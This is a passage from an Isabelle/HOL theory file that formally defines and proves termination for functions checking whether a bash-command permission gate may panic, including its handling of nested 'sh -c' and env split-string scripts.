     | Some segments \<Rightarrow>
         list_ex (\<lambda>words.
           if normalize_panics words then True
           else let inner = nc_words (normalize_command_words words) in
             case shell_dash_c_script (map Literal inner) of
               InlineLiteral index \<Rightarrow> if 0 < depth then allow_walk_may_panic env (inner ! index) (depth - 1) else False
             | _ \<Rightarrow> False) segments)"

declare allow_walk_may_panic.simps [simp del]

function gate_may_panic :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> nat \<Rightarrow> bool"
  and command_may_panic :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring list \<Rightarrow> nat \<Rightarrow> bool" where
  "gate_may_panic env cmd depth = (case pe_commands env cmd of
       None \<Rightarrow>
         (case pe_recovered env cmd of
            None \<Rightarrow> False
          | Some (projections, _) \<Rightarrow> list_ex (\<lambda>words. command_may_panic env words depth) projections)
     | Some segments \<Rightarrow> list_ex (\<lambda>words. command_may_panic env words depth) segments)"
| "command_may_panic env raw_words depth =
     (if normalize_panics raw_words then True
      else
        let inner_words = nc_words (normalize_command_words raw_words) in
        list_ex (\<lambda>form. allow_walk_may_panic env (join (str '' '') form) MAX_INLINE_SHELL_DEPTH)
          (command_forms raw_words inner_words)
        \<or> (case shell_dash_c_script (map Literal inner_words) of
              InlineLiteral index \<Rightarrow> if 0 < depth then gate_may_panic env (inner_words ! index) (depth - 1) else False
            | _ \<Rightarrow> False)
        \<or> (case env_split_string_script inner_words of
              Some script \<Rightarrow> if 0 < depth then gate_may_panic env script (depth - 1) else False
            | None \<Rightarrow> False))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>x. case x of Inl (_, _, d) \<Rightarrow> 2 * d + 1 | Inr (_, _, d) \<Rightarrow> 2 * d)") auto

declare gate_may_panic.simps [simp del] command_may_panic.simps [simp del]

definition evaluate_bash_command_policy ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring \<Rightarrow> decision option" where
  "evaluate_bash_command_policy env p cmd = map_option into_decision (evaluate_bash_command_gate env p cmd)"

end
